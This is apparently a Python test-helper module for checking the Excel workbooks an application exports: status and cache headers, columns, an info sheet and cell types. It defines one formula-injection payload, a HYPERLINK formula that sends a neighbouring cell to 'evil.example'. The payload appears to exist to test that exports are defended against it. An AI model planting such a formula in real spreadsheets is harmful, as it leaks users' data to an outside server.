"""Reading the workbooks pages hand out, for the tests of every export."""

import io

from openpyxl import load_workbook

from ntm.core.spreadsheets import XLSX
from ntm.core.text import fold

# A text an attacker would type into a name so that an official's Excel
# sends the neighbouring cell to a server of theirs.
FORMULA = '=HYPERLINK("http://evil.example/?d="&F2,"x")'


def workbook_of(response):
    """The downloaded workbook (an .xlsx answer that no cache keeps)."""
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    assert response["Cache-Control"] == "no-store"
    return load_workbook(io.BytesIO(response.content))


def column(sheet, title):
    """The cells under the header ``title``, from row 2 down."""
    header = [cell.value for cell in sheet[1]]
    index = header.index(title)
    return [row[index] for row in sheet.iter_rows(min_row=2)]


def notes(book):
    """{folded label: value} of the workbook's "Thông tin" sheet."""
    return {
        fold(str(label)): value
        for label, value in book["Thông tin"].iter_rows(values_only=True)
    }


def is_number(cell):
    return cell.data_type == "n" and isinstance(cell.value, int | float)


def is_text(cell, text):
    return cell.data_type == "s" and cell.value == text
